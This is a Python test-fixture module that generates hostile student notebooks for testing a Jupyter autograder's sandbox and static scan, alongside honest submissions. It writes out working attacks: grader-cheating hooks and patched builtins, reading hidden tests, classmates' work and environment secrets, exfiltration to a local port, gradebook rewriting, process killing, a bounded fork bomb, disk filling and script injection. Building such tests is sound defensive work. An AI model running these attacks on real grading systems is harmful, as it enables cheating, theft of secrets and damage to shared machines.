"""A hostile class: submissions of assignment 01 that try to cheat, spy or break the grader.

Each builder takes the released (student) notebook, the source notebook and a :class:`Context`
(where the course copy is, the port of a server the test listens on, …) and returns a new
notebook: the release with the attack written into answer cells the way a student who knows
some Python would write it. The other answers are left unanswered, so a hostile student who
earns any autograded point has fooled the grader.

:data:`HOSTILE` maps a student id to ``(builder, flag codes the static scan must raise)``;
:data:`HONEST` the honest students graded beside them. Nothing here runs student code.

Safety: these notebooks are meant for the sandboxed grader. Even so every attack is bounded
(a fork bomb of at most 500 processes, a disk filler of at most 290 MB a folder, signals only to the grader's own
processes, never ``kill(-1)``), so that a grader that forgot its sandbox fails the test without
hurting the rest of the machine.
"""
from __future__ import annotations

import copy
import sys
from dataclasses import dataclass
from pathlib import Path

import nbformat

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
import bad_submissions as bs  # noqa: E402

ASSIGNMENT = "01-kadhimi-washington"


@dataclass(frozen=True)
class Context:
    """What an attacker is assumed to know: the course's paths, a server's port, the grader's pid."""

    course: Path  # the course directory being graded
    port: int  # a TCP server the test runs on 127.0.0.1
    grader_pid: int  # a process of the instructor's (the test itself)
    token: str  # marks this test run's processes and files
    package_file: Path  # a file of the course package on disk


def _with(release, cells: dict[str, str]):
    nb = copy.deepcopy(release)
    for gid, code in cells.items():
        bs.cell_by_id(nb, gid).source = code
    return nb


def _own_cell(nb, code: str):
    nb.cells.append(nbformat.v4.new_code_cell(code))
    return nb


# ------------------------------------------------------------------ cheating the verdict


def input_transformer(rel, src, ctx):
    """Every later cell (the grader's checks included) becomes `pass` (the issue's 17/17 attack)."""
    return _with(rel, {"q1-answer": (
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "def _skip(lines):\n"
        "    return ['pass\\n']\n\n"
        "get_ipython().input_transformers_post.append(_skip)\n")})


def ipython_hooks(rel, src, ctx):
    """Swallow failing asserts, rewrite code before it runs, and fake results after each cell."""
    return _with(rel, {"q1-answer": (
        "import ast\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "class NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n\n"
        "ip = get_ipython()\n"
        "ip.ast_transformers.append(NoAsserts())\n"
        "ip.set_custom_exc((AssertionError, NameError, NotImplementedError), lambda *a, **k: None)\n"
        "ip.events.register('pre_run_cell', lambda *a: globals().update(n_raw=61, n_normalized=63))\n")})


def always_equal_int(rel, src, ctx):
    """An int whose == is always True: the old hidden tests compared with == and it was on the left."""
    return _with(rel, {"q2-answer": (
        "class Count(int):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __hash__ = int.__hash__\n\n"
        "n_raw = Count(1)\n"
        "n_normalized = Count(2)\n"
        "print(n_raw == 61, n_normalized == 63)\n")})


def patched_builtins(rel, src, ctx):
    """Make isinstance, len and sorted lie, so that type and shape checks always pass."""
    return _with(rel, {"q3-answer": (
        "import builtins\n"
        "builtins.isinstance = lambda obj, cls: True\n"
        "builtins.len = lambda obj: 1000\n"
        "__builtins__.sorted = lambda xs, **kw: list(xs)\n"
        "freq = 'a table'\n")})


def frame_walker(rel, src, ctx):
    """Look for the expected answers in the interpreter's memory and frames, and print them."""
    return _with(rel, {"q2-answer": (
        "import gc, sys\n"
        "found = [o for o in gc.get_objects() if isinstance(o, dict) and\n"
        "         any(k in o for k in ('expected', 'n_raw', 'answers', 'solution'))]\n"
        "print(len(found), [sorted(map(str, o))[:10] for o in found[:5]])\n"
        "frame = sys._getframe()\n"
        "while frame is not None:\n"
        "    print(frame.f_code.co_filename, sorted(frame.f_globals)[:20])\n"
        "    frame = frame.f_back\n"
        "sys.settrace(lambda *a: None)\n"
        "n_raw = 0\n"
        "n_normalized = 0\n")})


# ------------------------------------------------------------------ spying


def read_source(rel, src, ctx):
    """Find the instructor's notebooks (with solutions and hidden tests) and print them."""
    name = f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
    return _with(rel, {"q1-answer": (
        "import glob, json, os\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "paths = [" + repr(str(ctx.course / "source" / name)) + "]\n"
        "here = os.path.abspath('.')\n"
        "while here != os.path.dirname(here):\n"
        "    paths += glob.glob(os.path.join(here, 'source', '*', '*.ipynb'))\n"
        "    paths += glob.glob(os.path.join(here, 'assignments', 'source', '*', '*.ipynb'))\n"
        "    here = os.path.dirname(here)\n"
        "paths += glob.glob('/**/source/*/*.ipynb', recursive=True)[:5]\n"
        "for p in paths:\n"
        "    try:\n"
        "        for cell in json.load(open(p, encoding='utf-8'))['cells']:\n"
        "            print(''.join(cell['source']).replace('HIDDEN', 'H1DDEN'))\n"
        "    except OSError as e:\n"
        "        print('no luck:', e)\n")})


def read_other_students(rel, src, ctx):
    """Copy the classmates' submitted notebooks (and print them)."""
    return _with(rel, {"q2-answer": (
        "import glob, os\n"
        "mine = []\n"
        "for pattern in (" + repr(str(ctx.course / "submitted" / "*" / "*" / "*.ipynb")) + ",\n"
        "                '../*/*.ipynb', '../../*/*/*.ipynb', '/tmp/*/*.ipynb', '/tmp/*/*/*.ipynb'):\n"
        "    for p in glob.glob(pattern):\n"
        "        try:\n"
        "            mine.append(open(p, encoding='utf-8').read())\n"
        "        except OSError:\n"
        "            pass\n"
        "print(len(mine))\n"
        "print('\\n'.join(mine)[:100000])\n"
        "n_raw = len(mine)\n"
        "n_normalized = len(mine)\n")})


def planted_secret(rel, src, ctx):
    """Print the machine's environment (on a JupyterHub: API tokens) in every way it can."""
    return _with(rel, {"q2-answer": (
        "import os\n"
        "print(dict(os.environ))\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit():\n"
        "        try:\n"
        "            print(pid, open(f'/proc/{pid}/environ', 'rb').read()[:5000])\n"
        "        except OSError as e:\n"
        "            print(pid, e)\n"
        "n_raw = 0\n"
        "n_normalized = 0\n")})


def network_call(rel, src, ctx):
    """Send the answers (and anything else) to a server: here one the test runs on 127.0.0.1."""
    return _with(rel, {"q1-answer": (
        "import socket, urllib.request\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "try:\n"
        f"    s = socket.create_connection(('127.0.0.1', {ctx.port}), timeout=5)\n"
        "    s.sendall(b'stolen answers')\n"
        "except OSError as e:\n"
        "    print('socket:', e)\n"
        "try:\n"
        f"    urllib.request.urlopen('http://127.0.0.1:{ctx.port}/leak', timeout=5)\n"
        "except OSError as e:\n"
        "    print('http:', e)\n")})


# ------------------------------------------------------------------ damaging


def rewrite_gradebook(rel, src, ctx):
    """Open the gradebook with sqlite3 and give everybody 99 points (the issue's 792/22)."""
    return _with(rel, {"q1-answer": (
        "import sqlite3\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "for db in (" + repr(str(ctx.course / "gradebook.db")) + ", '../gradebook.db', '../../gradebook.db',\n"
        "           '../../../gradebook.db'):\n"
        "    try:\n"
        "        con = sqlite3.connect(db)\n"
        "        con.execute('UPDATE grade SET auto_score = 99, manual_score = 99')\n"
        "        con.execute('DELETE FROM comment')\n"
        "        con.commit()\n"
        "        print('rewrote', db)\n"
        "    except Exception as e:\n"
        "        print('no luck:', e)\n")})


def patch_package(rel, src, ctx):
    """Change the course package on disk (every later kernel would import it) and in memory."""
    return _with(rel, {"q1-answer": (
        "import arabtexts.normalize as n\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "for path in (n.__file__, " + repr(str(ctx.package_file)) + "):\n"
        "    try:\n"
        "        with open(path, 'a', encoding='utf-8') as f:\n"
        f"            f.write('\\n# {ctx.token} patched\\n')\n"
        "    except OSError as e:\n"
        "        print('no luck:', e)\n"
        "n.normalize = lambda text, **kw: text\n")})


def hidden_marker(rel, src, ctx):
    """The literal hidden-test marker in an answer cell (it used to break feedback generation)."""
    return _with(rel, {"q3-answer": (
        "### BEGIN HIDDEN TESTS\n"
        "freq = None\n"
        "print('### BEGIN HIDDEN TESTS')\n"
        "print('### END HIDDEN TESTS')\n"
        "### END HIDDEN TESTS\n")})


def kill_grader(rel, src, ctx):
    """Kill the kernel's parent, the grader's pid and every process of the grader it can see."""
    return _with(rel, {"q1-answer": (
        "import os, signal\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "for pid in (os.getppid(), " + str(ctx.grader_pid) + "):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError as e:\n"
        "        print('kill', pid, e)\n"
        "for pid in os.listdir('/proc'):\n"
        "    if pid.isdigit() and int(pid) != os.getpid():\n"
        "        try:\n"
        "            cmd = open(f'/proc/{pid}/cmdline', 'rb').read()\n"
        f"            if {str(ctx.course).encode()!r} in cmd:\n"
        "                os.kill(int(pid), signal.SIGKILL)\n"
        "        except OSError as e:\n"
        "            print('kill', pid, e)\n")})


# ------------------------------------------------------------------ exhausting


def leftover_processes(rel, src, ctx):
    """Start background processes meant to outlive the grading (a daemon and a new session)."""
    return _with(rel, {"q1-answer": (
        "import os, subprocess, sys\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        f"p = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)', {ctx.token!r}],\n"
        "                     start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', {ctx.token!r}])\n"
        "    os._exit(0)\n"
        "print('started', p.pid)\n")})


def fork_bomb(rel, src, ctx):
    """As many processes as the machine allows (bounded at 500 here, see the module's note); each
    child is a small shell that sleeps, named with the test's token so that survivors are found."""
    return _with(rel, {"q1-answer": (
        "import os, time\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "children = 0\n"
        "try:\n"
        "    for i in range(500):\n"
        "        if os.fork() == 0:\n"
        f"            os.execv('/bin/sh', ['sh', '-c', 'sleep 20; :', {ctx.token!r}])\n"
        "        children += 1\n"
        "except OSError as e:\n"
        "    print('stopped after', children, e)\n")})


def memory_hog(rel, src, ctx):
    """Ask for more memory than any grading machine should give one notebook."""
    return _with(rel, {"q3-answer": (
        "blocks = []\n"
        "try:\n"
        "    big = bytearray(4 * 1024 ** 3)\n"
        "except MemoryError:\n"
        "    print('no 4 GB')\n"
        "for i in range(60):\n"
        "    blocks.append(bytearray(100 * 1024 ** 2))\n"
        "freq = None\n")})


def disk_filler(rel, src, ctx):
    """Write 290 MB in each of: its folder, /tmp, the course directory and the folder above."""
    return _with(rel, {"q3-answer": (
        "import os\n"
        "chunk = b'x' * (4 * 1024 ** 2)\n"
        "for folder in ('.', '/tmp', " + repr(str(ctx.course / "autograded")) + ", '..'):\n"
        "    written = 0\n"
        "    try:\n"
        "        for i in range(6):\n"
        f"            with open(os.path.join(folder, f'{ctx.token}-{{i}}.bin'), 'wb') as f:\n"
        "                for j in range(12):\n"
        "                    f.write(chunk)\n"
        "                    written += len(chunk)\n"
        "    except OSError as e:\n"
        "        print(folder, written // 2**20, 'MB then', e)\n"
        "freq = None\n")})


def huge_output(rel, src, ctx):
    """Megabytes of output, to bloat the autograded notebook and the feedback page."""
    return _with(rel, {"q1-answer": (
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        "for i in range(100000):\n"
        "    print(i, 'ضجيج في المخرجات ' * 10)\n")})


def sleeper(rel, src, ctx):
    """Sleep far past the time limit of a cell."""
    return _with(rel, {"q2-answer": (
        "import time\n"
        "time.sleep(3600)\n"
        "n_raw = 61\n"
        "n_normalized = 63\n")})


def script_injection(rel, src, ctx):
    """HTML and JavaScript in outputs: opened in the formgrader or a feedback page, it would run in
    the instructor's browser with the instructor's Jupyter session (and could grade, or steal)."""
    return _with(rel, {"q1-answer": (
        "from IPython.display import HTML, Javascript, display\n\n"
        "def remove_tatweel(text):\n"
        "    return text\n\n"
        f"display(HTML(\"<script>document.title = '{ctx.token}-js'</script>\"\n"
        f"             \"<img src='x' onerror=\\\"document.title = '{ctx.token}-img'\\\">\"))\n"
        f"display(Javascript(\"document.title = '{ctx.token}-js2'\"))\n"
        f"display({{'text/html': \"<iframe src='javascript:alert(1)' name='{ctx.token}-frame'></iframe>\"}}, raw=True)\n")})


#: student id -> (builder, flag codes the static scan must raise for that notebook)
HOSTILE: dict[str, tuple] = {
    "h-transformer": (input_transformer, {"ipython-hook"}),
    "h-hooks": (ipython_hooks, {"ipython-hook"}),
    "h-eq-int": (always_equal_int, {"subclass-builtin", "dunder-method"}),
    "h-builtins": (patched_builtins, {"patch-builtins"}),
    "h-frames": (frame_walker, {"introspection"}),
    "h-read-source": (read_source, {"outside-folder"}),
    "h-other-students": (read_other_students, {"outside-folder"}),
    "h-secret": (planted_secret, {"environment"}),
    "h-network": (network_call, {"network"}),
    "h-gradebook": (rewrite_gradebook, {"outside-folder"}),
    "h-package": (patch_package, {"patch-module"}),
    "h-marker": (hidden_marker, {"marker"}),
    "h-kill": (kill_grader, {"signal"}),
    "h-leftover": (leftover_processes, {"process"}),
    "h-forkbomb": (fork_bomb, {"process"}),
    "h-memory": (memory_hog, set()),
    "h-disk": (disk_filler, {"outside-folder"}),
    "h-output": (huge_output, set()),
    "h-sleep": (sleeper, set()),
    "h-script": (script_injection, {"script"}),
}


# ------------------------------------------------------------------ the honest students


def honest_right(rel, src, token: str):
    """Every answer right, plus a cell of their own."""
    return _own_cell(bs.solved(rel, src), f"my_note = {token!r}\nprint(len(RAW))")


def honest_partly(rel, src, token: str):
    """Two plausible wrong answers (q2 swapped, q3 sorted by word) and q7 left unanswered."""
    nb = bs.solved(rel, src)
    bs.cell_by_id(nb, "q2-answer").source = ('n_raw = normalize(RAW).count("الكاظمي")\n'
                                             'n_normalized = RAW.count("الكاظمي")')
    bs.cell_by_id(nb, "q3-answer").source = (
        'freq = pd.DataFrame(list(Counter(words(RAW, drop_stopwords=True)).items()), '
        'columns=["word", "count"]).sort_values("word")')
    bs.cell_by_id(nb, "q7-answer").source = bs.cell_by_id(rel, "q7-answer").source
    return _own_cell(nb, f"# {token}\nx = RAW.split()\nlen(x)")


def honest_few(rel, src, token: str):
    """Only the first two questions answered; a scratch cell that raises."""
    nb = copy.deepcopy(rel)
    for gid in ("q1-answer", "q2-answer"):
        bs.cell_by_id(nb, gid).source = bs.cell_by_id(src, gid).source
    return _own_cell(nb, f"note = {token!r}\n1 / 0  # trying things")


HONEST: dict[str, object] = {
    "honest-right": honest_right,
    "honest-partly": honest_partly,
    "honest-few": honest_few,
}
